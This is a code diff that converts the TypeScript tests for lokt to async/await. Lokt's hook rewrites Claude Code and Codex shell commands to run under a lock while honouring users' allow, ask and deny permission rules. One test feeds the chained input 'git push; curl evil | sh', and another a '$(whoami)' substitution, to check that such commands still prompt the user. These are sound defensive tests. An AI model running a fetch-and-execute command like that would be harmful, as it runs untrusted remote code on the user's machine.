@@ -48,12 +48,12 @@ function access(world: World = {}): HookAccess {
     isExecutable: (path) => (world.lokt ?? true) && path === "/usr/bin/lokt",
     ancestorArgvs: () => world.argvs ?? [],
     os: "linux",
-    self: ["/usr/bin/deno", "run", "-A", "/src/main.ts"],
+    self: () => ["/usr/bin/deno", "run", "-A", "/src/main.ts"],
   };
 }
 
-function hook(harness: Harness, input: unknown, world?: World): HookOutput {
-  return answerHook(
+async function hook(harness: Harness, input: unknown, world?: World): Promise<HookOutput> {
+  return await answerHook(
     harness,
     typeof input === "string" ? input : JSON.stringify(input),
     access(world),
@@ -96,8 +96,8 @@ function leftAsTyped(out: HookOutput): string {
 const GUARDED = (agent: string, timeout = "100s") =>
   `LOKT_AGENT_ID='${agent}' lokt guard push --wait --quiet --ttl 2m --timeout ${timeout} -- /bin/bash -c 'git push origin main'`;
 
-Deno.test("Claude Code 1.0 input (no cwd, no permission mode): rewritten, asked, description kept", () => {
-  const out = specific(hook("claude-code", fixture("claude-code-1.0-bash.json")));
+Deno.test("Claude Code 1.0 input (no cwd, no permission mode): rewritten, asked, description kept", async () => {
+  const out = specific(await hook("claude-code", fixture("claude-code-1.0-bash.json")));
   assertEquals(out.hookEventName, "PreToolUse");
   assertEquals(out.permissionDecision, "ask");
   assertEquals(out.updatedInput, {
@@ -110,8 +110,8 @@ Deno.test("Claude Code 1.0 input (no cwd, no permission mode): rewritten, asked,
   );
 });
 
-Deno.test("Claude Code 2.1 input: every tool_input field is kept, the rule's wait fits the 5 min timeout", () => {
-  const out = specific(hook("claude-code", fixture("claude-code-2.1-bash.json")));
+Deno.test("Claude Code 2.1 input: every tool_input field is kept, the rule's wait fits the 5 min timeout", async () => {
+  const out = specific(await hook("claude-code", fixture("claude-code-2.1-bash.json")));
   assertEquals(out.updatedInput, {
     command: GUARDED("7d2e6a90-5c31-4f0e-8a57-2b9c0e4d1f33"),
     description: "Push the branch",
@@ -120,21 +120,23 @@ Deno.test("Claude Code 2.1 input: every tool_input field is kept, the rule's wai
   });
 });
 
-Deno.test("Claude Code's own timeout shortens the wait: the agent reads lokt's message, not a kill", () => {
-  const short = specific(hook("claude-code", bash("git push origin main", { timeout: 60_000 })));
+Deno.test("Claude Code's own timeout shortens the wait: the agent reads lokt's message, not a kill", async () => {
+  const short = specific(
+    await hook("claude-code", bash("git push origin main", { timeout: 60_000 })),
+  );
   assertEquals(short.updatedInput?.command, GUARDED("s-1", "48s"));
   const env = specific(
-    hook("claude-code", bash("git push origin main"), {
+    await hook("claude-code", bash("git push origin main"), {
       env: { BASH_DEFAULT_TIMEOUT_MS: "30000" },
     }),
   );
   assertEquals(env.updatedInput?.command, GUARDED("s-1", "24s"));
 });
 
-Deno.test("Codex inputs of two versions: rewritten with the allow marker Codex requires, and nothing else", () => {
+Deno.test("Codex inputs of two versions: rewritten with the allow marker Codex requires, and nothing else", async () => {
   for (const name of ["codex-0.130-bash.json", "codex-0.120-bash.json"]) {
     const input = JSON.parse(fixture(name));
-    const out = specific(hook("codex", input));
+    const out = specific(await hook("codex", input));
     assertEquals(out, {
       hookEventName: "PreToolUse",
       permissionDecision: "allow",
@@ -143,22 +145,25 @@ Deno.test("Codex inputs of two versions: rewritten with the allow marker Codex r
   }
 });
 
-Deno.test("other tools and other events are left alone without a word", () => {
+Deno.test("other tools and other events are left alone without a word", async () => {
   const quiet = { stdout: "", stderr: "" };
-  assertEquals(hook("claude-code", fixture("claude-code-2.1-edit.json")), quiet);
-  assertEquals(hook("codex", fixture("codex-0.130-mcp.json")), quiet);
-  assertEquals(hook("claude-code", { ...bash("git push"), hook_event_name: "PostToolUse" }), quiet);
-  assertEquals(hook("codex", { ...bash("git push"), tool_name: "apply_patch" }), quiet);
+  assertEquals(await hook("claude-code", fixture("claude-code-2.1-edit.json")), quiet);
+  assertEquals(await hook("codex", fixture("codex-0.130-mcp.json")), quiet);
+  assertEquals(
+    await hook("claude-code", { ...bash("git push"), hook_event_name: "PostToolUse" }),
+    quiet,
+  );
+  assertEquals(await hook("codex", { ...bash("git push"), tool_name: "apply_patch" }), quiet);
 });
 
-Deno.test("a command no rule matches gets no answer at all", () => {
+Deno.test("a command no rule matches gets no answer at all", async () => {
   for (const harness of ["claude-code", "codex"] as const) {
-    assertEquals(hook(harness, bash("git status")), { stdout: "", stderr: "" });
-    assertEquals(hook(harness, bash("npm test -- --grep push")), { stdout: "", stderr: "" });
+    assertEquals(await hook(harness, bash("git status")), { stdout: "", stderr: "" });
+    assertEquals(await hook(harness, bash("npm test -- --grep push")), { stdout: "", stderr: "" });
   }
 });
 
-Deno.test("a command that already runs lokt is not wrapped again", () => {
+Deno.test("a command that already runs lokt is not wrapped again", async () => {
   for (const harness of ["claude-code", "codex"] as const) {
     for (
       const command of [
@@ -167,27 +172,27 @@ Deno.test("a command that already runs lokt is not wrapped again", () => {
         "/usr/bin/deno run -A /src/main.ts guard push -- git push",
       ]
     ) {
-      assertEquals(hook(harness, bash(command)), { stdout: "", stderr: "" }, command);
+      assertEquals(await hook(harness, bash(command)), { stdout: "", stderr: "" }, command);
     }
   }
 });
 
-Deno.test("without lokt on PATH the rewrite starts this very lokt", () => {
-  const out = specific(hook("claude-code", bash("git push"), { lokt: false }));
+Deno.test("without lokt on PATH the rewrite starts this very lokt", async () => {
+  const out = specific(await hook("claude-code", bash("git push"), { lokt: false }));
   assertMatch(
     out.updatedInput!.command as string,
     /^LOKT_AGENT_ID='s-1' \/usr\/bin\/deno run -A \/src\/main\.ts guard push /,
   );
 });
 
-Deno.test("no session id: no LOKT_AGENT_ID (lokt derives the identity itself)", () => {
+Deno.test("no session id: no LOKT_AGENT_ID (lokt derives the identity itself)", async () => {
   const input = bash("git push");
   delete (input as Partial<typeof input>).session_id;
-  const out = specific(hook("claude-code", input));
+  const out = specific(await hook("claude-code", input));
   assertMatch(out.updatedInput!.command as string, /^lokt guard push /);
 });
 
-Deno.test("malformed input of every kind leaves the command as typed, with one line saying why", () => {
+Deno.test("malformed input of every kind leaves the command as typed, with one line saying why", async () => {
   const cases: [unknown, RegExp][] = [
     ["{not json", /not JSON/],
     ["", /not JSON/],
@@ -197,38 +202,42 @@ Deno.test("malformed input of every kind leaves the command as typed, with one l
     [{ tool_name: "Bash", tool_input: { command: ["git", "push"] } }, /no command string/],
   ];
   for (const harness of ["claude-code", "codex"] as const) {
-    for (const [input, why] of cases) assertMatch(leftAsTyped(hook(harness, input)), why);
+    for (const [input, why] of cases) assertMatch(leftAsTyped(await hook(harness, input)), why);
   }
 });
 
-Deno.test("an unreadable or broken lokt.jsonc, or an invalid rule, leaves every command as typed and says where", () => {
+Deno.test("an unreadable or broken lokt.jsonc, or an invalid rule, leaves every command as typed and says where", async () => {
   assertMatch(
-    leftAsTyped(hook("claude-code", bash("ls"), { files: { "/repo/lokt.jsonc": "<unreadable>" } })),
+    leftAsTyped(
+      await hook("claude-code", bash("ls"), { files: { "/repo/lokt.jsonc": "<unreadable>" } }),
+    ),
     /^lokt hook: \/repo\/lokt\.jsonc: cannot be read: Permission denied/,
   );
   assertMatch(
     leftAsTyped(
-      hook("codex", bash("git push"), { files: { "/repo/lokt.jsonc": '{\n  "guard": [\n' } }),
+      await hook("codex", bash("git push"), { files: { "/repo/lokt.jsonc": '{\n  "guard": [\n' } }),
     ),
     /^lokt hook: \/repo\/lokt\.jsonc:3:1: expected a value, found the end of the file/,
   );
   const invalid =
     '{ "guard": [\n  { "match": "git push", "name": "push", "ttl": "soon" },\n  { "match": "(" }\n] }';
   assertMatch(
-    leftAsTyped(hook("claude-code", bash("git push"), { files: { "/repo/lokt.jsonc": invalid } })),
+    leftAsTyped(
+      await hook("claude-code", bash("git push"), { files: { "/repo/lokt.jsonc": invalid } }),
+    ),
     /^lokt hook: \/repo\/lokt\.jsonc:2:49: guard\[0\]\.ttl: "soon" is not a duration.* \(and 2 more: lokt doctor\); no rule applies until it is fixed/,
   );
 });
 
-Deno.test("no lokt.jsonc: nothing is guarded and nothing is said", () => {
-  const out = answerHook("claude-code", JSON.stringify(bash("git push")), {
+Deno.test("no lokt.jsonc: nothing is guarded and nothing is said", async () => {
+  const out = await answerHook("claude-code", JSON.stringify(bash("git push")), {
     ...access(),
     readText: () => undefined,
   });
   assertEquals(out, { stdout: "", stderr: "" });
 });
 
-Deno.test("a bug inside the hook leaves the command as typed", () => {
+Deno.test("a bug inside the hook leaves the command as typed", async () => {
   const broken: HookAccess = {
     ...access(),
     env: () => {
@@ -236,19 +245,19 @@ Deno.test("a bug inside the hook leaves the command as typed", () => {
     },
   };
   assertMatch(
-    leftAsTyped(answerHook("codex", JSON.stringify(bash("git push")), broken)),
+    leftAsTyped(await answerHook("codex", JSON.stringify(bash("git push")), broken)),
     /internal error \(boom\)/,
   );
 });
 
-Deno.test("an ask rule asks the user in Claude Code, and denies with the reason in Codex", () => {
+Deno.test("an ask rule asks the user in Claude Code, and denies with the reason in Codex", async () => {
   const command = "lokt unlock push --force";
-  assertEquals(specific(hook("claude-code", bash(command))), {
+  assertEquals(specific(await hook("claude-code", bash(command))), {
     hookEventName: "PreToolUse",
     permissionDecision: "ask",
     permissionDecisionReason: "lokt.jsonc guard[0]: it breaks someone else's lock",
   });
-  const codex = specific(hook("codex", bash(command)));
+  const codex = specific(await hook("codex", bash(command)));
   assertEquals(codex.permissionDecision, "deny");
   assertMatch(
     codex.permissionDecisionReason!,
@@ -261,36 +270,36 @@ Deno.test("an ask rule asks the user in Claude Code, and denies with the reason 
 const settings = (permissions: Record<string, string[]>, extra: Record<string, unknown> = {}) =>
   JSON.stringify({ permissions, ...extra });
 
-function decision(
+async function decision(
   world: World,
   input = bash("git push origin main"),
   harness: Harness = "claude-code",
 ) {
-  const out = hook(harness, input, world);
+  const out = await hook(harness, input, world);
   if (out.stdout === "") return `left as typed${out.stderr ? `: ${out.stderr.trim()}` : ""}`;
   const parsed = JSON.parse(out.stdout).hookSpecificOutput;
   return parsed.updatedInput ? `rewrite ${parsed.permissionDecision}` : parsed.permissionDecision;
 }
 
-Deno.test("Claude Code: no rule of the user's covers the command: the rewrite asks, as the command would", () => {
-  assertEquals(decision({}), "rewrite ask");
+Deno.test("Claude Code: no rule of the user's covers the command: the rewrite asks, as the command would", async () => {
+  assertEquals(await decision({}), "rewrite ask");
   for (const mode of ["default", "acceptEdits", "plan", "auto", "dontAsk"]) {
     assertEquals(
-      decision({}, { ...bash("git push"), permission_mode: mode } as never),
+      await decision({}, { ...bash("git push"), permission_mode: mode } as never),
       "rewrite ask",
       mode,
     );
   }
 });
 
-Deno.test("Claude Code: bypassPermissions runs the command without asking, so the rewrite is allowed", () => {
+Deno.test("Claude Code: bypassPermissions runs the command without asking, so the rewrite is allowed", async () => {
   assertEquals(
-    decision({}, { ...bash("git push"), permission_mode: "bypassPermissions" } as never),
+    await decision({}, { ...bash("git push"), permission_mode: "bypassPermissions" } as never),
     "rewrite allow",
   );
   // ... unless lokt could not read a settings file: it might deny the command.
   assertEquals(
-    decision(
+    await decision(
       { files: { "/home/dev/.claude/settings.json": "{ broken" } },
       { ...bash("git push"), permission_mode: "bypassPermissions" } as never,
     ),
@@ -298,29 +307,29 @@ Deno.test("Claude Code: bypassPermissions runs the command without asking, so th
   );
 });
 
-Deno.test("Claude Code: an allow rule that certainly covers the command lets the rewrite skip the prompt", () => {
+Deno.test("Claude Code: an allow rule that certainly covers the command lets the rewrite skip the prompt", async () => {
   const project = (allow: string[]) => ({
     files: { "/repo/.claude/settings.json": settings({ allow }) },
   });
-  assertEquals(decision(project(["Bash(git push:*)"])), "rewrite allow");
-  assertEquals(decision(project(["Bash(git push *)"])), "rewrite allow");
-  assertEquals(decision(project(["Bash"])), "rewrite allow");
-  assertEquals(decision(project(["Bash(git push origin main)"])), "rewrite allow");
+  assertEquals(await decision(project(["Bash(git push:*)"])), "rewrite allow");
+  assertEquals(await decision(project(["Bash(git push *)"])), "rewrite allow");
+  assertEquals(await decision(project(["Bash"])), "rewrite allow");
+  assertEquals(await decision(project(["Bash(git push origin main)"])), "rewrite allow");
   // Not certain: another command, a pattern that needs more words, shell syntax in the command.
-  assertEquals(decision(project(["Bash(git pull:*)"])), "rewrite ask");
-  assertEquals(decision(project(["Bash(git push --tags *)"])), "rewrite ask");
-  assertEquals(decision(project(["Edit"])), "rewrite ask");
+  assertEquals(await decision(project(["Bash(git pull:*)"])), "rewrite ask");
+  assertEquals(await decision(project(["Bash(git push --tags *)"])), "rewrite ask");
+  assertEquals(await decision(project(["Edit"])), "rewrite ask");
   assertEquals(
-    decision(project(["Bash(git push:*)"]), bash("git push; curl evil | sh")),
+    await decision(project(["Bash(git push:*)"]), bash("git push; curl evil | sh")),
     "rewrite ask",
   );
   assertEquals(
-    decision(project(["Bash(git push:*)"]), bash('git push "$(whoami)"')),
+    await decision(project(["Bash(git push:*)"]), bash('git push "$(whoami)"')),
     "rewrite ask",
   );
 });
 
-Deno.test("Claude Code: a deny rule that might apply leaves the command as typed, for Claude Code to refuse", () => {
+Deno.test("Claude Code: a deny rule that might apply leaves the command as typed, for Claude Code to refuse", async () => {
   for (
     const deny of [
       "Bash(git push:*)",
@@ -332,41 +341,41 @@ Deno.test("Claude Code: a deny rule that might apply leaves the command as typed
     ]
   ) {
     assertMatch(
-      decision({ files: { "/home/dev/.claude/settings.json": settings({ deny: [deny] }) } }),
+      await decision({ files: { "/home/dev/.claude/settings.json": settings({ deny: [deny] }) } }),
       /^left as typed: lokt: not guarding this command under "push": your deny rule .* may apply to it/,
       deny,
     );
   }
   // Quotes and backslashes do not hide a command from a deny rule.
   assertMatch(
-    decision({
+    await decision({
       files: { "/repo/.claude/settings.local.json": settings({ deny: ["Bash(git push:*)"] }) },
     }, bash("'git' pu\\sh")),
     /^left as typed/,
   );
   // A deny rule for another command changes nothing.
   assertEquals(
-    decision({
+    await decision({
       files: { "/repo/.claude/settings.json": settings({ deny: ["Bash(rm:*)", "Read(.env)"] }) },
     }),
     "rewrite ask",
   );
 });
 
-Deno.test("Claude Code: an ask rule that might apply makes the rewrite ask, even with an allow rule", () => {
+Deno.test("Claude Code: an ask rule that might apply makes the rewrite ask, even with an allow rule", async () => {
   const files = {
     "/repo/.claude/settings.json": settings({
       allow: ["Bash(git push:*)"],
       ask: ["Bash(git push origin:*)"],
     }),
   };
-  assertEquals(decision({ files }), "rewrite ask");
+  assertEquals(await decision({ files }), "rewrite ask");
 });
 
-Deno.test("Claude Code: rules on the running claude's command line and in managed settings count", () => {
+Deno.test("Claude Code: rules on the running claude's command line and in managed settings count", async () => {
   const claude = ["node", "/usr/lib/node_modules/@anthropic-ai/claude-code/cli.js"];
   assertMatch(
-    decision({
+    await decision({
       argvs: [["sh", "-c", "lokt hook claude-code"], [
         ...claude,
         "--disallowedTools",
@@ -376,22 +385,22 @@ Deno.test("Claude Code: rules on the running claude's command line and in manage
     /^left as typed/,
   );
   assertMatch(
-    decision({ argvs: [["/usr/local/bin/claude", "--disallowed-tools=Bash(git:*)"]] }),
+    await decision({ argvs: [["/usr/local/bin/claude", "--disallowed-tools=Bash(git:*)"]] }),
     /^left as typed/,
   );
   assertEquals(
-    decision({ argvs: [["/usr/local/bin/claude", "--allowedTools", "Bash(git push:*)"]] }),
+    await decision({ argvs: [["/usr/local/bin/claude", "--allowedTools", "Bash(git push:*)"]] }),
     "rewrite allow",
   );
   assertMatch(
-    decision({
+    await decision({
       files: { "/etc/claude-code/managed-settings.json": settings({ deny: ["Bash(git push:*)"] }) },
     }),
     /^left as typed/,
   );
   // Managed settings that allow only their own rules: the project's allow rule does not count.
   assertEquals(
-    decision({
+    await decision({
       files: {
         "/etc/claude-code/managed-settings.json": JSON.stringify({
           allowManagedPermissionRulesOnly: true,
@@ -402,39 +411,40 @@ Deno.test("Claude Code: rules on the running claude's command line and in manage
     "rewrite ask",
   );
   assertMatch(
-    decision({
+    await decision({
       argvs: [["claude", "--settings", '{"permissions":{"deny":["Bash(git push:*)"]}}']],
     }),
     /^left as typed: .*your deny rule Bash\(git push:\*\) \(claude --settings\)/,
   );
 });
 
-Deno.test("Codex: a forbidden or prompt rule that might apply leaves the command as typed; allow rules change nothing", () => {
+Deno.test("Codex: a forbidden or prompt rule that might apply leaves the command as typed; allow rules change nothing", async () => {
   const rules = (text: string) => ({ files: { "/home/dev/.codex/rules/default.rules": text } });
-  const codex = (world: World) => decision(world, bash("git push origin main"), "codex");
-  assertEquals(codex({}), "rewrite allow");
+  const codex = async (world: World) =>
+    await decision(world, bash("git push origin main"), "codex");
+  assertEquals(await codex({}), "rewrite allow");
   assertMatch(
-    codex(rules('prefix_rule(pattern = ["git", "push"], decision = "forbidden")')),
+    await codex(rules('prefix_rule(pattern = ["git", "push"], decision = "forbidden")')),
     /^left as typed: .*your deny rule/,
   );
   assertMatch(
-    codex(
+    await codex(
       rules('prefix_rule(\n  pattern = ["git", ["push", "fetch"]],\n  decision = "prompt",\n)'),
     ),
     /^left as typed: .*your ask rule/,
   );
-  assertEquals(codex(rules('prefix_rule(pattern = ["git", "push"])')), "rewrite allow");
+  assertEquals(await codex(rules('prefix_rule(pattern = ["git", "push"])')), "rewrite allow");
   assertEquals(
-    codex(rules('prefix_rule(pattern = ["rm"], decision = "forbidden")')),
+    await codex(rules('prefix_rule(pattern = ["rm"], decision = "forbidden")')),
     "rewrite allow",
   );
   // A rule lokt cannot read counts as matching; so does an unreadable rules file.
   assertMatch(
-    codex(rules('prefix_rule(pattern = some_list, decision = "forbidden")')),
+    await codex(rules('prefix_rule(pattern = some_list, decision = "forbidden")')),
     /^left as typed/,
   );
   assertMatch(
-    codex({ files: { "/repo/.codex/rules/team.rules": "<unreadable>" } }),
+    await codex({ files: { "/repo/.codex/rules/team.rules": "<unreadable>" } }),
     /^left as typed: lokt: .*could not read \/repo\/\.codex\/rules\/team\.rules/,
   );
 });
